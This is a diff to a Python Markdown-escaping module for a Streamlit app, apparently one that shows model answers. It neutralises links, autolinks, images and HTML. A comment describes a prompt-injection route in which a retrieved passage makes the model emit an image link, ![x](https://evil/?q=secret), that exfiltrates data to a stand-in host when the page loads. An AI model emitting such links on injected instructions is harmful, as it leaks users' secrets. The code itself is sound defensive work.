@@ -7,19 +7,39 @@ import re
 from collections.abc import Iterable, Iterator
 
 # Every ASCII punctuation character may be backslash-escaped in CommonMark and then renders as itself.
-# These are the ones Markdown, GFM or Streamlit's extensions (":color[...]", ":emoji:", "$math$") use.
-_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:^&=\"'%@])")
+# These are the ones Markdown, GFM or Streamlit's extensions (":color[...]", ":emoji:", "$math$") use; "/"
+# because Streamlit rewrites ":material/" in the raw text before parsing.
+_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:^&=\"'%@/])")
 _LEADING_SPACE = re.compile(r"^[ \t]+", re.MULTILINE)
 _BLANK_LINES = re.compile(r"\n\s*\n\s*")
 _CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
-# Streamlit turns URLs, "www." names and e-mail addresses into links, and ":name:" / ":color[...]" into
-# emoji and coloured text, AFTER backslash escapes are resolved; an invisible word joiner breaks them.
-WORD_JOINER = "\u2060"
-_AUTOLINK_PARTS = re.compile(r"(?<=:)|(?=@)|(?<=\bwww)(?=\.)", re.IGNORECASE)
+# Streamlit turns URLs, "www." names and e-mail addresses into links, and ":name:" into emoji or icons, in
+# the text AFTER backslash escapes are resolved, so escaping cannot stop it. Such spans are shown as code:
+# code is never linked or replaced, and it copies exactly as it reads. (An invisible word joiner inside
+# them, the earlier way, was copied along with the text.)
+_LIVE = re.compile(
+    r"(?P<url>\b(?:[A-Za-z][A-Za-z0-9+.-]*://|www\.)[^\s`]*)"
+    r"|(?P<email>[\w.+-]+@[\w-]+(?:\.[\w-]+)+)"
+    r"|(?P<shortcode>:(?:\+1|-1|[\w-]*[^\W\d_][\w-]*):)",
+    re.IGNORECASE,
+)
+_TRAILING = ".,;:!?)]}'\""  # sentence punctuation after a URL stays outside its code span
 
 
-def _defuse(text: str) -> str:
-    return _AUTOLINK_PARTS.sub(WORD_JOINER, text)
+def _live_spans(text: str) -> list[tuple[str, bool]]:
+    """``text`` cut into (part, is_live) pieces; live parts are what Streamlit would link or replace."""
+    parts: list[tuple[str, bool]] = []
+    last = 0
+    for m in _LIVE.finditer(text):
+        span = m.group(0)
+        if m.lastgroup == "url":
+            span = span.rstrip(_TRAILING)
+        if not span:
+            continue
+        parts += [(text[last : m.start()], False), (span, True)]
+        last = m.start() + len(span)
+    parts.append((text[last:], False))
+    return [(part, live) for part, live in parts if part]
 
 
 def escape_markdown(text: str) -> str:
@@ -29,7 +49,7 @@ def escape_markdown(text: str) -> str:
     text = _CONTROL.sub("", str(text).replace("\r\n", "\n").replace("\r", "\n"))
     text = _LEADING_SPACE.sub("", text)  # four spaces would start a code block
     text = _BLANK_LINES.sub("\n\n", text.strip())
-    return _MD_SPECIAL.sub(r"\\\1", _defuse(text))
+    return "".join(f"`{part}`" if live else _MD_SPECIAL.sub(r"\\\1", part) for part, live in _live_spans(text))
 
 
 _CODE_SPAN = re.compile(r"(`[^`\n]+`)")
@@ -45,14 +65,23 @@ def escape_message(text: str) -> str:
 # In generated answers formatting (lists, bold) is kept, but nothing may fetch or link anywhere:
 # a passage can instruct the model to emit ![x](https://evil/?q=secret), and the browser would fetch it.
 _ANSWER_SPECIAL = re.compile(r"([\[\]<>\\])")
-_ANSWER_LINKISH = re.compile(r"(?<=:)(?=/)|(?<=\w)(?=@\w)|(?<=\bwww)(?=\.)", re.IGNORECASE)
+_CODE = re.compile(r"(```.*?```|`[^`\n]+`)", re.DOTALL)  # the answer's own code: left as it is
 
 
 def safe_answer_markdown(text: str) -> str:
     """An answer as Markdown with formatting kept but links, images, autolinks and HTML made literal."""
     text = _CONTROL.sub("", text)
-    text = _ANSWER_SPECIAL.sub(r"\\\1", text)
-    return _ANSWER_LINKISH.sub(WORD_JOINER, text)
+    out = []
+    for i, piece in enumerate(_CODE.split(text)):
+        if i % 2:  # code is shown literally already: nothing in it links, fetches or runs
+            out.append(piece)
+            continue
+        for part, live in _live_spans(piece):
+            if live and not part.startswith(":"):  # an emoji in an answer is harmless; a link is not
+                out.append(f"`{part}`")
+            else:
+                out.append(_ANSWER_SPECIAL.sub(r"\\\1", part))
+    return "".join(out)
 
 
 def safe_stream(deltas: Iterable[str]) -> Iterator[str]:
